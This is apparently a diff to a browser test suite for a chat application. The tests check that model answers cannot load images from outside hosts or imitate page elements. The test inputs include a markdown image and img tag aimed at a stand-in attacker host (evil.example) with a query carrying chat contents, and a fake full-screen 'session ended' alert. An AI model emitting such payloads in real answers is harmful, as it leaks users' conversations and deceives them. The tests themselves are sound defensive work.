@@ -41,7 +41,7 @@ def test_what_a_model_answers(admin, open_page, batch):
     page = open_page(admin)
     new_chat(page)
     for attack in batch:
-        ask(page, "\n\n" + attack + "\n\nend")
+        ask(page, "Look:\n\n" + attack + "\n\nend")
         expect(page.locator(".message.assistant .prose").last).to_contain_text("end")
         unharmed(page)
     # The titles in the list, and everything again as it was stored.
@@ -57,7 +57,7 @@ def test_a_picture_from_elsewhere_is_not_asked_for(admin, open_page):
     asked = []
     page.on("request", lambda request: asked.append(request.url) if not request.url.startswith((URL, "data:", "blob:")) else None)
     new_chat(page)
-    ask(page, "\n\n![secret](https://evil.example/p.png?chat=everything) <img src=//evil.example/q.png> ![ok](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n\nend")
+    ask(page, "Look:\n\n![secret](https://evil.example/p.png?chat=everything) <img src=//evil.example/q.png> ![ok](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n\nend")
     expect(page.locator(".prose").get_by_role("link", name="secret")).to_be_visible()
     assert asked == []
     assert page.locator(".prose img").count() == 1
@@ -67,7 +67,7 @@ def test_a_picture_from_elsewhere_is_not_asked_for(admin, open_page):
 def test_a_model_cannot_dress_up_as_the_page(admin, open_page):
     page = open_page(admin)
     new_chat(page)
-    ask(page, '\n\n<div class="toast error" id="toasts" role="alert" style="position:fixed;inset:0">Your session ended</div>\n\nend')
+    ask(page, 'Look:\n\n<div class="toast error" id="toasts" role="alert" style="position:fixed;inset:0">Your session ended</div>\n\nend')
     answer = page.locator(".prose")
     expect(answer).to_contain_text("end")
     assert answer.locator("[class*=toast], [id], [role], [style]").count() == 0
